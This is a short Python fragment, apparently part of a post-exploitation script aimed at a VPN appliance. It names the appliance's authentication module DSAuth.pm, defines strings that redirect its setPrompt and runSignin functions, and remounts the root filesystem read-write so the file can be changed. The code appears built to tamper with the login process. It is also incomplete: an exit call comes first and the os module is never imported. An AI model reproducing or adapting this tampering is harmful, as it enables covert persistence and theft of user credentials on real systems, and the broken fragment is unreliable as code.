raise SystemExit
path = "/home/perl/DSAuth.pm"
replace_content = "*setPrompt = *DSAuthc::setPrompt;"
replace1_content = "*runSignin = *DSAuthc::runSignin;"
os.system("/bin/mount -o remount,rw /dev/root /")
